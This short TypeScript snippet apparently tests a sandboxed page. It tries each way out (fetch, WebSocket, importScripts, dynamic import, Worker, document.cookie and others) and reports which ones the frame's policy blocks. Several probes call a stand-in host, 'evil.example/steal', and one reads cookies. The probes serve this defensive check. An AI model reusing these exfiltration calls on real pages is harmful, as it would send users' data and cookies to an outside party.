// All the ways out that a page has. A program has no global for
// any of them, and the frame's policy stands behind that.
const evil = 'https://evil.example/steal';
const doors: Record<string, () => unknown> = {
  fetch: () => fetch(evil),
  XMLHttpRequest: () => new XMLHttpRequest(),
  WebSocket: () => new WebSocket('wss://evil.example'),
  importScripts: () => importScripts(evil),
  'import()': () => import(evil),
  Worker: () => new Worker(evil),
  indexedDB: () => indexedDB.open('loot'),
  BroadcastChannel: () => new BroadcastChannel('page'),
  'self.postMessage': () => self.postMessage('hello'),
  'document.cookie': () => document.cookie,
};

const outcome: Record<string, string> = {};
for (const [door, open] of Object.entries(doors)) {
  try {
    await open();
    outcome[door] = 'OPEN';
    console.error(`${door} is open`);
  } catch (error) {
    outcome[door] = (error as Error).message.split('\n')[0]!;
    console.log(`${door}: ${(error as Error).name}`);
  }
}
return outcome;
